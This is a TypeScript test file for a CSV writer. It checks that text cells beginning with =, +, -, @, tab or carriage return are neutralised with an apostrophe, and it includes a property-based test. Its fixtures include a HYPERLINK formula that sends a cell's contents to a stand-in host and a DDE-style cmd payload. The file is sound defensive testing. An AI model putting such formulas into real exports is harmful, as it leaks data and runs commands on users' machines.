import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { toCsv } from './csv.ts';

const cellsOf = (csv: string) => parse(csv, { relax_column_count: true }) as string[][];

describe('the CSV writer', () => {
  it.each([
    ['a formula', '=HYPERLINK("http://evil.example/?"&A1,"Click")'],
    ['a plus', "+1+cmd|' /C calc'!A0"],
    ['a minus', '-2+3'],
    ['an at sign', '@SUM(A1:A2)'],
    ['a tab', '\t=1+1'],
    ['a carriage return', '\r=1+1'],
  ])('neutralises a text cell that begins with %s', (_name, text) => {
    const [, row] = cellsOf(toCsv([['note'], [text]]));
    expect(row?.[0]).toBe(`'${text}`);
  });

  it('keeps ordinary text, numbers (negative ones too) and empty cells as they are', () => {
    const [, row] = cellsOf(
      toCsv([
        ['a', 'b', 'c', 'd', 'e'],
        ['Weeding, then tea', -90, 0, null, 'a = b'],
      ]),
    );
    expect(row).toEqual(['Weeding, then tea', '-90', '0', '', 'a = b']);
  });

  it('no text cell, whatever it holds, reaches a spreadsheet beginning with a formula character', () => {
    fc.assert(
      fc.property(
        fc.array(
          fc.oneof(
            fc.string(),
            fc.constantFrom('=', '+', '-', '@', '\t', '\r').chain((start) => fc.string().map((rest) => start + rest)),
          ),
          { minLength: 1, maxLength: 6 },
        ),
        (cells) => {
          const [row] = cellsOf(toCsv([cells]));
          for (const cell of row ?? []) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
          // and nothing is lost: taking the apostrophe off gives back what was written
          expect(row?.map((cell, index) => (cell !== cells[index] ? cell.slice(1) : cell))).toEqual(cells);
        },
      ),
    );
  });
});
